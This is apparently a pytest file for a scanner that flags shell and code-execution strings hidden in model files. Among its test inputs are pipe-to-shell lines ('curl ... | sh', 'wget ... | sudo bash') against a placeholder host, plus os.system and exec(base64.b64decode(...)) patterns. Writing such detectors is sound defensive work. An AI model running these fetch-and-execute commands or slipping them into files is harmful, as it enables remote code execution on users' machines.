"""Files that bear a model's name, that no reader understands, and that hold a command."""

import io
import json
import pickle
import zipfile

import pytest

from jingwei.layers.tools.artifacts import Verdict, scan_bytes

NOISE = bytes(range(1, 256)) * 3


def rules(content, name):
    return {finding.rule for finding in scan_bytes(content, name).findings}


@pytest.mark.parametrize(
    "command",
    [
        b"curl -s http://host.invalid/a | sh",
        b"wget -qO- http://host.invalid/a |  sudo bash",
        b"os.system('true; true')",
        b"os.execute('true; true')",
        b'subprocess.Popen(["true", "x"])',
        b"base::system('true')",
        b"eval(compile('1', 'x', 'exec'))",
        b"exec(base64.b64decode('MQ=='))",
        b"__import__('os').getcwd()",
    ],
)
@pytest.mark.parametrize("name", ["a.rdata", "a.t7", "MODEL.MSGPACK"])
def test_a_command_in_a_model_of_no_known_grammar_is_suspicious(command, name):
    found = scan_bytes(NOISE + command + NOISE, name)
    assert found.verdict is Verdict.SUSPICIOUS
    (finding,) = [one for one in found.findings if one.rule == "format.command"]
    assert finding.offset == len(NOISE)
    assert finding.name.encode() in command


@pytest.mark.parametrize(
    "words",
    [
        b"systematic execution of the operating system",
        b"os.system is a function",
        b"curl and sh are programs | wget",
        b"an evaluation (compile time)",
        b"exec_time_ms\0system_feature",
    ],
)
def test_words_are_no_command(words):
    assert "format.command" not in rules(NOISE + words + NOISE, "a.rdata")


@pytest.mark.parametrize("name", ["a.pyc", "a.so", "install", "a.sh", "README.md"])
def test_other_files_may_hold_commands(name):
    assert "format.command" not in rules(NOISE + b"os.system('true; true')" + NOISE, name)


def test_a_file_that_is_understood_is_judged_by_what_it_does():
    text = "os.system('true; true') and curl http://host.invalid | sh"
    assert scan_bytes(pickle.dumps({"card": text}), "a.pkl").verdict is Verdict.CLEAN


def archive(members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as zipped:
        for name, value in members.items():
            zipped.writestr(name, json.dumps(value))
    return made.getvalue()


@pytest.mark.parametrize(("called", "verdict"), [("exec", Verdict.MALICIOUS), ("add", Verdict.UNPROVED)])
def test_a_node_that_calls_what_it_names_is_judged_by_the_name(called, verdict):
    members = {"a.json": {"kind": "OperatorFuncNode", "function": called}}
    assert scan_bytes(archive(members), "a.skops").verdict is verdict
